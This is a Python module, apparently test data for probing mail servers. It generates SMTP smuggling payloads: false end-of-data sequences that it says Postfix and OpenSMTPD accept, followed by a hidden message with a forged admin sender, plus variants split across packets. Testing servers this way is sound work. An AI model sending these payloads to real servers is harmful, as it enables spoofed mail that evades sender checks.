"""Ends of a message that are none: by RFC 5321 §4.1.1.4 only CRLF.CRLF is one, and some servers take others for it.

A second message is hidden behind such an end. A server that is fooled reads it as commands, and delivers it for a
sender that nobody has checked.
"""

from typing import Final

ENDS: Final[dict[str, bytes]] = {
    "lf_dot_lf": b"\n.\n",
    "lf_dot_crlf": b"\n.\r\n",
    "crlf_dot_lf": b"\r\n.\n",
    "crlf_dot_cr_crlf": b"\r\n.\r\r\n",
    "crlf_dot_nul_crlf": b"\r\n.\0\r\n",
    "cr_dot_cr": b"\r.\r",
    "cr_dot_lf": b"\r.\n",
    "lf_dot_cr": b"\n.\r",
    "cr_dot_crlf": b"\r.\r\n",
    "crlf_dot_cr": b"\r\n.\r",
    "crlf_nul_dot_crlf": b"\r\n\0.\r\n",
    "crlf_dot_space_crlf": b"\r\n. \r\n",
    "cr_cr_lf_dot_cr_cr_lf": b"\r\r\n.\r\r\n",
    "crlf_dot_lf_crlf": b"\r\n.\n\r\n",
}
FOOLS_POSTFIX: Final = frozenset({"lf_dot_lf", "lf_dot_crlf", "crlf_dot_lf", "crlf_dot_cr_crlf"})
"""Those that Debian 12's Postfix falls for in its default settings, at the least."""
FOOLS_OPENSMTPD: Final = frozenset({"lf_dot_lf", "lf_dot_crlf", "crlf_dot_lf", "crlf_dot_nul_crlf"})
"""The same for OpenSMTPD 6.8."""
SMUGGLED: Final = "smuggled@example.org"

_OUTER: Final = b"Subject: outer\r\nX-Outer: 1\r\n\r\nouter text"
_HIDDEN: Final = (
    b"MAIL FROM:<admin@example.org>\r\nRCPT TO:<%s>\r\nDATA\r\n"
    b"From: admin@example.org\r\nSubject: smuggled\r\n\r\ninner text" % SMUGGLED.encode()
)
_TRUE_END: Final = b"\r\n.\r\n"


def smuggle(end: bytes) -> bytes:
    """One message with another hidden behind a false end."""
    return _OUTER + end + _HIDDEN + _TRUE_END


def cuts(end: bytes) -> list[list[bytes]]:
    """The same in two pieces, cut before, within and right behind the false end; and with that byte by byte."""
    whole, start = smuggle(end), len(_OUTER)
    stop = start + len(end)
    places = range(start, stop + 2)
    single = [whole[place : place + 1] for place in places]
    return [*([whole[:place], whole[place:]] for place in places), [whole[:start], *single, whole[stop + 2 :]]]
